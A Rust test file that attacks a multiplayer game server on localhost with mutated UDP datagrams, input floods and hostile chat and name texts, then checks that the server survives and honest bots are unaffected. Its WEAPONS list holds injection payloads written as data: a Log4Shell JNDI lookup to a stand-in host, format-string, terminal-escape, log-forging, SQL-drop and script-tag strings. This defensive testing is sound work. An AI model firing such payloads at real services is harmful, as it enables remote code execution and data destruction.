//! Abuse of a live server over real sockets: strangers who send nonsense, a player who floods, a player whose words are
//! weapons. In every test twenty honest bots play on and must not notice.

use std::{
    net::{SocketAddr, UdpSocket},
    time::{Duration, Instant},
};

use precinct::protocol::{NAME_BYTES_MAX, SAY_BYTES_MAX};
use rand::{Rng, SeedableRng};
use rand_xoshiro::Xoshiro256PlusPlus;
use serde_json::Value;
use throng_client::{ClientState, DisconnectReason};
use throng_net::control;
use throng_platform::process::rss_bytes_of;

use crate::{
    address::token,
    child::{Ended, Server, alone},
    crowd::Crowd,
    figures::{at_rate, check_ticks_kept, window},
    player::Player,
};

const BOTS: usize = 16;
const SIZE: [&str; 4] = ["--players", "24", "--npcs", "48"];

/// The longest datagram that fits an ethernet frame.
const DATAGRAM_BYTES_MAX: usize = 1_500;

/// Nobody honest has noticed anything.
pub fn check_unharmed(crowd: Crowd, server: Server) -> Ended {
    let saw = crowd.finish();
    assert_eq!((saw.players_connected, saw.disconnects), (saw.players_wanted, 0), "{saw:?}");
    assert_eq!((saw.state_errors, saw.protocol_errors), (0, 0), "{saw:?}");
    assert!(saw.state_checks > 0, "no errors among no checks prove nothing");
    let ended = server.stop();
    assert!(ended.status.success(), "{}", ended.stderr);
    assert!(!ended.stderr.contains("panicked"), "{}", ended.stderr);
    assert_eq!(ended.report["worlds_parked"], 0, "{}", ended.report);
    ended
}

pub fn refused(ended: &Ended, cause: &str) -> u64 {
    let count = ended.report["datagrams_refused"].get(cause).and_then(Value::as_u64);
    count.unwrap_or_else(|| panic!("no `{cause}` in {}", ended.report))
}

/// Makes datagrams that no honest program sends, out of chance and of genuine ones.
pub struct Mutations {
    pub rng: Xoshiro256PlusPlus,
    pub genuine: Vec<Vec<u8>>,
}

impl Mutations {
    pub fn fill(&mut self, datagram: &mut Vec<u8>) {
        let rng = &mut self.rng;
        datagram.clear();
        let genuine = &self.genuine[rng.random_range(0..self.genuine.len())];
        match rng.random_range(0..6) {
            0 => {
                datagram.resize(rng.random_range(0..=DATAGRAM_BYTES_MAX), 0);
                rng.fill(&mut datagram[..]);
            }
            1 => {
                datagram.extend_from_slice(genuine);
                for _ in 0..rng.random_range(1..=8) {
                    let at = rng.random_range(0..datagram.len());
                    datagram[at] ^= 1 << rng.random_range(0..8);
                }
            }
            2 => datagram.extend_from_slice(&genuine[..rng.random_range(0..genuine.len())]),
            3 => {
                datagram.extend_from_slice(genuine);
                let longer = rng.random_range(datagram.len()..=DATAGRAM_BYTES_MAX);
                datagram.resize(longer, rng.random());
            }
            4 => datagram.extend_from_slice(genuine),
            _ => {
                datagram.extend_from_slice(genuine);
                datagram[0] = rng.random();
            }
        }
    }
}

/// What the attackers did.
#[derive(Default)]
struct Attack {
    sent: u64,
    sent_bytes: u64,
    answers: u64,
    answers_bytes: u64,
}

/// Sends `count` mutations at `per_s` from several sockets in turns.
fn attack(server: SocketAddr, mut mutations: Mutations, count: u64, per_s: u64) -> Attack {
    /// Sent at once between two looks at the clock: 1 ms of the attack's rate.
    const PAUSES_PER_S: u64 = 1_000;
    let sockets: Vec<UdpSocket> = (0..8).map(|_| UdpSocket::bind("127.0.0.1:0").expect("a free port")).collect();
    sockets.iter().for_each(|socket| socket.set_nonblocking(true).expect("a socket of ours"));
    let mut attack = Attack::default();
    let mut datagram = Vec::with_capacity(DATAGRAM_BYTES_MAX);
    let mut answer = [0; 2_048];
    let begin = Instant::now();
    let mut listen = |attack: &mut Attack| {
        for socket in &sockets {
            while let Ok(len) = socket.recv(&mut answer) {
                attack.answers += 1;
                attack.answers_bytes += len as u64;
            }
        }
    };
    let mut next = 0;
    while next < count {
        for _ in 0..(per_s / PAUSES_PER_S).min(count - next) {
            mutations.fill(&mut datagram);
            let socket = &sockets[next as usize % sockets.len()];
            if socket.send_to(&datagram, server).is_ok() {
                attack.sent += 1;
                attack.sent_bytes += datagram.len() as u64;
            }
            next += 1;
        }
        listen(&mut attack);
        let due = begin + Duration::from_secs_f64(next as f64 / per_s as f64);
        std::thread::sleep(due.saturating_duration_since(Instant::now()));
    }
    // The server takes the last ones in its next frame.
    std::thread::sleep(Duration::from_millis(500));
    listen(&mut attack);
    attack
}

/// A whole handshake and a second of play, as they went over the wire.
pub fn genuine_datagrams(server: SocketAddr) -> Vec<Vec<u8>> {
    let mut player = Player::enter(token(server, 1));
    player.play_until(Duration::from_secs(1), |_| false);
    let sent = std::mem::take(&mut player.sent);
    player.leave();
    assert!(sent.len() >= 10, "{} datagrams", sent.len());
    sent
}

fn mutated_datagrams_at_a_live_server(count: u64, per_s: u64) {
    let _alone = alone();
    let mut server = Server::start(&SIZE);
    let genuine = genuine_datagrams(server.address);
    let crowd = Crowd::start(server.address, BOTS);
    std::thread::sleep(Duration::from_secs(1));
    let rss_before = rss_bytes_of(server.pid()).expect("it runs");

    let seed = 1;
    let mutations = Mutations { rng: Xoshiro256PlusPlus::seed_from_u64(seed), genuine };
    let attack = attack(server.address, mutations, count, per_s);

    assert!(server.is_running(), "the server lives");
    let grown_bytes = rss_bytes_of(server.pid()).expect("it runs").saturating_sub(rss_before);
    assert!(grown_bytes <= 16 << 20, "strangers made it keep {grown_bytes} bytes");
    // An honest newcomer gets in all the same.
    Player::enter(token(server.address, 2)).leave();
    let ended = check_unharmed(crowd, server);

    assert_eq!(attack.sent, count);
    assert!(attack.answers_bytes <= attack.sent_bytes / 10, "{} bytes were answered", attack.answers_bytes);
    let refused = refused(&ended, "gate");
    let counted = refused + attack.answers;
    // A replayed hello is answered with a cookie. A busy machine loses a few in the kernel; none is counted twice, but
    // the goodbyes of players who are gone already are refused as well.
    println!("{count} sent, {refused} refused, {} answered", attack.answers);
    assert!(counted as f64 >= 0.5 * count as f64, "{refused} refused and {} answered of {count}", attack.answers);
    assert!(counted <= count + 500, "{refused} refused and {} answered of {count}", attack.answers);
}

#[test]
fn strangers_with_mutated_datagrams_disturb_nobody() {
    mutated_datagrams_at_a_live_server(50_000, 25_000);
}

#[test]
#[ignore = "full form: takes 30 s, and wants a release build"]
fn r01_a_million_mutated_datagrams_at_a_live_server() {
    mutated_datagrams_at_a_live_server(1_000_000, 50_000);
}

const PACKETS_PER_MS: u64 = 20;

/// Sends 20,000 inputs a second, as a program does that wants to hurt, until it is thrown out; returns how many that
/// were.
fn flood_until_dismissed(abuser: &mut Player) -> u64 {
    let begin = Instant::now();
    let mut packets = 0;
    while abuser.is_connected() && begin.elapsed() < Duration::from_secs(10) {
        for _ in 0..PACKETS_PER_MS {
            abuser.send_input();
            packets += 1;
        }
        abuser.receive();
        let due = begin + Duration::from_millis(packets / PACKETS_PER_MS);
        std::thread::sleep(due.saturating_duration_since(Instant::now()));
    }
    let took = begin.elapsed();
    let state = abuser.client.state();
    assert_eq!(state, ClientState::Disconnected(DisconnectReason::ClosedByServer), "{packets} packets in {took:?}");
    packets
}

/// Promise: who floods is out in two seconds, and nobody else notices.
fn flooding_players(size: [&str; 4], bots: usize, rounds: &[usize], more_missed_share_max: f64) {
    let _alone = alone();
    let server = Server::start(&size);
    let crowd = Crowd::start(server.address, bots);
    // The attackers share the server's processor: what is theirs is in both windows.
    let abusers_max = rounds.iter().copied().max().unwrap_or_default();
    let (quiet, ()) = window(&server, || flood_nobody(abusers_max));
    let (flooded, ()) = window(&server, || flood_in_rounds(&server, bots, rounds));
    check_ticks_kept(&quiet, &flooded, more_missed_share_max);
    let ended = check_unharmed(crowd, server);
    assert!(refused(&ended, "over_allowance") > 0, "{}", ended.report);
}

/// Sends for a second what `abusers` send, to a socket that nobody reads.
fn flood_nobody(abusers: usize) {
    const PACKET_BYTES: usize = 60;
    let nobody = UdpSocket::bind("127.0.0.1:0").expect("a free port");
    let address = nobody.local_addr().expect("it has one");
    std::thread::scope(|scope| {
        for _ in 0..abusers {
            scope.spawn(|| {
                let socket = UdpSocket::bind("127.0.0.1:0").expect("a free port");
                at_rate(PACKETS_PER_MS * 1_000, PACKETS_PER_MS * 1_000, |_| {
                    // What nobody reads is lost.
                    let _ = socket.send_to(&[0; PACKET_BYTES], address);
                });
            });
        }
    });
}

fn flood_in_rounds(server: &Server, bots: usize, rounds: &[usize]) {
    // In packets, since the attackers' own program is late on a machine that they fill.
    const PACKETS_MAX: u64 = 2 * 1_000 * PACKETS_PER_MS;
    for &abusers in rounds {
        std::thread::scope(|scope| {
            for client_id in 1..=abusers as u64 {
                let server = server.address;
                scope.spawn(move || {
                    let mut abuser = Player::enter(token(server, client_id));
                    abuser.play_until(Duration::from_secs(1), |_| false);
                    let packets = flood_until_dismissed(&mut abuser);
                    assert!(packets <= PACKETS_MAX, "it took {packets} packets");
                });
            }
        });
        server.wait_for_status("players", |players| players == bots as f64);
    }
}

/// Promise: messages are counted by themselves. A hundred inputs in a packet are 5,000 a second here, in 50 packets.
#[test]
fn a_player_who_packs_many_messages_into_few_packets_is_dismissed() {
    let server = Server::start(&SIZE);
    let mut abuser = Player::enter(token(server.address, 1));
    abuser.play_until(Duration::from_secs(1), |_| false);
    let begin = Instant::now();
    while abuser.is_connected() && begin.elapsed() < Duration::from_secs(30) {
        abuser.send_inputs_together(100);
        abuser.receive();
        std::thread::sleep(Duration::from_millis(20));
    }
    let state = abuser.client.state();
    assert_eq!(state, ClientState::Disconnected(DisconnectReason::ClosedByServer), "after {:?}", begin.elapsed());
    let report = server.stop().report;
    let count = |name: &str| report["counters"][name].as_u64().expect("it is counted");
    assert!(count("net.messages_over_allowance") > 1_000, "{report}");
    assert_eq!((count("net.over_allowance"), count("net.inputs_over_allowance")), (0, 0), "{report}");
}

#[test]
fn a_player_who_floods_is_dismissed_alone() {
    flooding_players(SIZE, BOTS, &[1], 0.05);
}

#[test]
#[ignore = "full form: takes 2 min, and wants a release build"]
fn r10_flooding_players_among_two_hundred_honest_ones() {
    let one_then_ten = [[1; 20], [10; 20]].concat();
    flooding_players(["--players", "224", "--npcs", "448"], 200, &one_then_ten, 0.02);
}

/// Ten times what a player sends in a second, at once, after the line was down for a while.
#[test]
fn a_burst_after_a_blackout_is_no_flood() {
    let _alone = alone();
    let server = Server::start(&SIZE);
    let mut player = Player::enter(token(server.address, 1));
    for _ in 0..3 {
        player.play_until(Duration::from_millis(500), |_| false);
        std::thread::sleep(Duration::from_secs(1));
        (0..200).for_each(|_| player.send_input());
    }
    player.play_until(Duration::from_secs(1), |_| false);
    assert!(player.is_connected(), "{:?}", player.client.state());
    assert_eq!(player.client.stats().state_errors, 0);
    player.leave();
    let ended = server.stop();
    assert_eq!(refused(&ended, "over_allowance"), 0, "{}", ended.report);
}

/// Words that have broken other programs: loggers, terminals, parsers and eyes.
const WEAPONS: [&[u8]; 20] = [
    b"${jndi:ldap://203.0.113.7/WEAPON}",
    b"%s%s%s%n%n WEAPON",
    b"{} {0} {WEAPON:?}",
    b"\x1b[2J\x1b[31mWEAPON",
    b"\x1b]0;WEAPON\x07",
    b"WEAPON\r\n2026-01-01T00:00:00Z ERROR forged",
    b"WEAPON\n\n\n",
    b"WEAPON\0tail",
    b"\x08\x08\x08WEAPON",
    b"\x7fWEAPON",
    b"\xff\xfe\xfdWEAPON",
    b"WEAPON\xc0\xaf",
    b"\xed\xa0\x80WEAPON",
    "\u{202e}WEAPON\u{2066}".as_bytes(),
    "\u{9b}31mWEAPON".as_bytes(),
    "\u{2028}WEAPON\u{2029}".as_bytes(),
    "\u{200b}\u{feff}WEAPON".as_bytes(),
    "WEAPON\u{301}\u{301}\u{301}\u{301}\u{301}".as_bytes(),
    b"'; DROP TABLE players; -- WEAPON",
    b"<script>WEAPON</script>",
];

/// A hostile text: a known weapon, or one padded, cut or joined with chance.
fn hostile_text(rng: &mut Xoshiro256PlusPlus) -> Vec<u8> {
    let mut text = WEAPONS[rng.random_range(0..WEAPONS.len())].to_vec();
    match rng.random_range(0..4) {
        0 => {}
        1 => text.resize(rng.random_range(text.len()..=SAY_BYTES_MAX * 2), b'A'),
        2 => text.truncate(rng.random_range(0..text.len())),
        _ => {
            let mut tail = vec![0; rng.random_range(0..SAY_BYTES_MAX)];
            rng.fill(&mut tail[..]);
            text.extend(tail);
        }
    }
    text
}

/// Too long, no UTF-8, or with a control character: the rest is for the game to judge.
fn is_refused_by_anybody(text: &[u8], bytes_max: usize) -> bool {
    text.len() > bytes_max || !std::str::from_utf8(text).is_ok_and(|text| !text.chars().any(char::is_control))
}

fn hostile_texts_in_names_and_lines(count: usize) {
    // Their kinds: their places among the requests of the schema.
    const SAY: u8 = 0;
    const NAME: u8 = 1;
    let _alone = alone();
    let server = Server::start_talkative(&SIZE);
    let crowd = Crowd::start(server.address, BOTS);
    let mut player = Player::enter(token(server.address, 1));
    let mut rng = Xoshiro256PlusPlus::seed_from_u64(1);

    // One of the largest messages that there are, and one that is too large to be one.
    let mut huge = vec![b'A'; 60 << 10];
    huge[..3].copy_from_slice(&[control::REQUEST, player.epoch(), SAY]);
    player.client.send_raw(&huge).expect("it fits a message");
    huge.resize(1 << 20, b'A');
    assert!(player.client.send_raw(&huge).is_err(), "1 MiB is no message");
    player.play_until(Duration::from_secs(2), |_| false);

    let mut sent = 0;
    let mut hostile = 0;
    let all_sent = player.play_until(Duration::from_secs(120), |player| {
        for _ in 0..5 {
            let text = hostile_text(&mut rng);
            let kind = if sent % 2 == 0 { SAY } else { NAME };
            let message = [&[control::REQUEST, player.epoch(), kind, text.len().min(255) as u8], &text[..]].concat();
            let bytes_max = if sent % 2 == 0 { SAY_BYTES_MAX } else { NAME_BYTES_MAX };
            // A full channel is the sender's own problem: it waits.
            if player.client.send_raw(&message).is_err() {
                break;
            }
            hostile += usize::from(is_refused_by_anybody(&text, bytes_max));
            sent += 1;
        }
        // Words cost more than inputs; so many are within what a client may send.
        std::thread::sleep(Duration::from_millis(25));
        !player.is_connected() || sent >= count
    });
    assert!(all_sent && player.is_connected(), "{sent} sent, {:?}", player.client.state());
    player.play_until(Duration::from_secs(2), |_| false);
    assert!(player.is_connected(), "words are no reason to throw somebody out");
    player.leave();
    server.wait_for_status("players", |players| players == BOTS as f64);
    let ended = check_unharmed(crowd, server);

    let seconds = ended.report["seconds"].as_f64().expect("a figure");
    let of_game = |name: &str| ended.report["game_per_s"][name].as_f64().unwrap_or_default() * seconds;
    let count = |name: &str| ended.report["counters"][name].as_f64().expect("it is counted");
    let refused = of_game("refused.precinct.say") + of_game("refused.precinct.call_me");
    assert!(refused > 0.0, "{}", ended.report);
    // Too long for its kind, or more than a client may say: nobody looks into those.
    let unread = count("net.messages_refused") + count("net.said_over_limit");
    assert!((refused + unread).round() as usize >= hostile, "{refused} and {unread} of {hostile} hostile texts");
    for record in ended.stderr.lines() {
        check_record(record);
    }
    let left = ended.stderr.lines().filter(|record| record.contains("client left")).count();
    assert_eq!(left, BOTS + 1, "one record for each who left, no more and no fewer: {}", ended.stderr);
    assert!(!ended.stderr.contains("WEAPON"), "a player's words are in the log: {}", ended.stderr);
    assert!(ended.stderr.len() < 1 << 20, "the log has {} bytes", ended.stderr.len());
}

/// A line of the log is one record: time, level, words; and nothing that a terminal obeys.
fn check_record(record: &str) {
    assert!(!record.chars().any(char::is_control), "{record:?}");
    let mut words = record.split_whitespace();
    let time = words.next().unwrap_or_default();
    let level = words.next().unwrap_or_default();
    assert!(time.starts_with("20") && time.ends_with('Z') && time.contains('T'), "{record:?}");
    assert!(["TRACE", "DEBUG", "INFO", "WARN", "ERROR"].contains(&level), "{record:?}");
}

#[test]
fn hostile_texts_stay_values() {
    hostile_texts_in_names_and_lines(1_000);
}

#[test]
#[ignore = "full form: takes 1 min"]
fn r18_ten_thousand_hostile_texts_at_a_live_server() {
    hostile_texts_in_names_and_lines(10_000);
}
